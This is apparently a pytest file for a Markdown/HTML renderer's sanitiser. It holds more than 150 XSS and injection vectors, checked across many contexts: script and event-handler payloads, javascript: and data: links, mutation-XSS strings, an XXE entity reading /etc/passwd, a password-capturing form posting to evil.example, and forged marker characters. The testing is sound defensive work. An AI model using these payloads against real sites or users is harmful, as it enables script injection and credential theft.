"""No text can bring anything into a page that is not on the list, wherever in the dialect it stands."""

from __future__ import annotations

import pytest

from postilla.bodies import BodySource, FigureSource, render
from tests.bodies.allowlist import as_browsers_read, check, events

VECTORS = [
    # Scripts and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<script><!--</script>--><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script a=">" src="x.js"></script>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" alt="a" onload="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x\x00onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<a href=# onclick=alert(1)>x</a>",
    "<div ONCLICK=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<table onpointerenter=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    # Addresses
    '<a href="javascript:alert(1)">x</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https:/\\evil.example">x</a>',
    '<a href="https://user:pass@evil.example">x</a>',
    '<a href="#" href="javascript:alert(1)">x</a>',
    '<a href="#&quot; onclick=&quot;alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert`1`)",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/x)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example)",
    "[x](%2e%2e/%2e%2e/x)",
    "[x](..%2f..%2fx)",
    '[x](https://evil.example"onmouseover=alert(1))',
    '[x](<https://evil.example/" onmouseover="alert(1)>)',
    '[x](https://evil.example "t" onmouseover="alert(1)")',
    "[x](https://evil.example '\" onmouseover=\"alert(1)')",
    '[x](#"><script>alert(1)</script>)',
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://a.example "&quot;><script>alert(1)</script>"',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    '![" onerror="alert(1)](x.png)',
    '![x](x.png "\\" onerror=\\"alert(1)")',
    '![x](x.png"onerror="alert(1))',
    '![`"><script>alert(1)</script>`](x.png)',
    "![[x](javascript:alert(1))](x.png)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover="alert(1)>',
    "<https://a.example/&quot;><script>alert(1)</script>",
    # Elements that load, frame, style or redirect
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="md-header" id="__search">x</p>',
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
    "<slot name=x></slot>",
    "<dialog open>x</dialog>",
    "<title>x</title>",
    "<plaintext>x",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    # SVG, MathML, foreign content, mutation
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><semantics><annotation encoding="text/html"><img src=x onerror=alert(1)></annotation></semantics></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<math><mi><b><math><mtext><a id="</mtext><img src=x onerror=alert(1)>">x</a>',
    '<math><mstyle mathbackground="url(x)" style="x"><mi>x</mi></mstyle></math>',
    "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<p><math><p><table></math></p>",
    "<table><math><tr><td><mtext><table></td></tr></math>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<a><table><a href=x></table></a>",
    "<b><p></b></p><b id=x><p></b>",
    "<div><span></div></span><b><div></b>",
    "</p></div></body></html><script>alert(1)</script>",
    "</aside></blockquote></section></figure>",
    "<li><ul></li></ul>",
    "<caption><table></caption>",
    "<!--><script>alert(1)</script>-->",
    '<!--->"><script>alert(1)</script>-->',
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><?php alert(1) ?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "<%= alert(1) %>",
    '<a title="x" title=\'"><script>alert(1)</script>\'>x</a>',
    "<img src=x.png alt='\"><script>alert(1)</script>'>",
    '<img src=x.png alt="&quot; onerror=&quot;alert(1)">',
    "<abbr title='&quot;onmouseover=alert(1)//'>x</abbr>",
    "<a href='https://a.example/?\"onmouseover=\"alert(1)'>x</a>",
    '<a id="x" name="getElementById">x</a>',
    '<img id="cookie" name="cookie" src=x.png alt=x>',
    # Formulas
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "$\\text{&#60;script&#62;alert(1)&#60;/script&#62;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(x)}{x}$",
    '$\\class{x" onclick="alert(1)}{x}$',
    '$\\color{"><script>alert(1)</script>}{x}$',
    "$$\\unicode{x3c}script$$",
    "$<mi onclick=alert(1)>x</mi>$",
    "$x</annotation></semantics></math><script>alert(1)</script>$",
    # What this room writes itself
    '[@liu2021" onclick="alert(1)]',
    "[@<script>alert(1)</script>]",
    '[^"><script>alert(1)</script>]',
    '[^"onclick=alert(1)//]\n\n[^"onclick=alert(1)//]: x',
    '![fig1" onclick="alert(1)]',
    '## <script>alert(1)</script> x" onclick="alert(1)',
    'Table: <script>alert(1)</script>. {#t" onclick="alert(1)}\n| a |\n|---|\n| b |',
    '> [!BOX] <img src=x onerror=alert(1)>\n> "><script>alert(1)</script>',
    '```"><script>alert(1)</script>\nx\n```',
    '```py" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    # Forged marks, of this room and of Python-Markdown
    "\ufdd00\ufdd1\ufdd01\ufdd1 <b>x</b>",
    "<b>&#xFDD0;0&#xFDD1;&#64976;0&#64977;</b>",
    '<p title="&#xFDD0;0&#xFDD1;">&#xFDD00&#xFDD1</p>',
    "<table><tr><td title='&#xfdd0;1&#xfdd1;'>&#x00fdd0;1&#x00fdd1</table>",
    '[&#xFDD0;0&#xFDD1;](x.png) ![&#xFDD0;0&#xFDD1;](x.png) <a href="#&#xFDD0;0&#xFDD1;">x</a> [@b]',
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03 \x0260\x03script\x0262\x03",
    "\ud800\udc00 \ufffe \x00",
]

CONTEXTS = {
    "paragraph": "{}",
    "text": "Before {} after [@b] $x$ `code`.",
    "line": "Before\n{}\nafter [@b]",
    "heading": "## {}",
    "link": "[{}](https://a.example)",
    "image": "![{}](x.png)",
    "title": '[x](https://a.example "{}")',
    "emphasis": "*{}* **{}** ^{}^",
    "item": "- {}\n- x\n\n    {}",
    "quotation": "> {}\n> x",
    "box": "> [!BOX] {}\n> {}",
    "cell": "| a | b |\n|---|---|\n| {} | x |",
    "caption": "Table: {} {{#t}}\n\n| a |\n|---|\n| b |",
    "footnote": "x[^n]\n\n[^n]: {}\n\n    {}",
    "element": "<div>{}</div>\n\n<table><tr><td>{}</td></tr></table>",
    "attribute": "<p title=\"{}\">x</p> <img src=x.png alt='{}'>",
    "code": "`{}`\n\n    {}\n\n```\n{}\n```",
    "formula": "${}$ $$\\text{{{}}}$$",
    "twice": "{}\n\n{}",
}


def test_there_are_enough() -> None:
    assert len(VECTORS) == len(set(VECTORS))
    assert len(VECTORS) >= 150


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_gets_through(vector: str) -> None:
    for context in CONTEXTS.values():
        # A vector of several lines goes where its context puts its first line, as it would in a record.
        text = context.replace("{}", vector).replace("{{", "{").replace("}}", "}")
        body = render(BodySource(text, "t-", ("a", "b")))
        assert "P407" not in {finding.code for finding in body.findings}, text
        read = check(body.html)
        assert events(as_browsers_read(body.html)) == read, text


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_gets_through_a_figure(vector: str) -> None:
    figure = FigureSource("fig1", vector, vector, vector, vector, f"f/{vector}")
    body = render(BodySource("![fig1]\n\n[x](#fig1)", "t-", (), (figure,)))
    assert "P407" not in {finding.code for finding in body.findings}
    read = check(body.html)
    assert events(as_browsers_read(body.html)) == read


def test_a_script_leaves_nothing_behind() -> None:
    body = render(BodySource("a <script>alert(1)</script><style>b{}</style> c", "t-", ()))
    assert body.html == "<p>a  c</p>"


def test_what_cannot_be_a_tag_is_text() -> None:
    body = render(BodySource("p < 0.05, a<b and <img src=x onerror=alert(1)//", "t-", ()))
    assert body.html == "<p>p &lt; 0.05, a&lt;b and &lt;img src=x onerror=alert(1)//</p>"
